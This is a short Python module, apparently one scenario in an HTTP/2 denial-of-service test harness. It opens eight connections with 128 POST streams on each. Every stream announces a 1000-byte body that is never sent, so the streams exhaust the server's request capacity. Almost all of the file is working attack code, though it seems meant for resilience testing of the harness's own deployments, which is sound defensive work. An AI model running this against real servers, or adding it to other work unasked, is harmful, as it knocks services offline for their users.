"""128 streams on each of eight connections, each a POST whose body never arrives.

A stream is counted as a request for as long as it waits, so few connections take
what all clients have together.
"""

import frames
from attack import Attack, still_open

ATTACK = Attack(configurations=("deployments",), short=("10Mi", "32Mi"))
CONNECTIONS, STREAMS = 8, 128


async def run(target):
    length = frames.field(b"content-length", b"1000")
    posts = b"".join(
        frames.request(1 + 2 * number, frames.head(b"/", "POST", more=length), ends=False)
        for number in range(STREAMS))

    async def begin(_):
        return await target.http2(frames.opening() + posts)

    opened = await target.many(CONNECTIONS, begin)
    await target.wait()
    return f"{len(opened)} connections with {STREAMS} streams, {still_open(opened)} stayed"
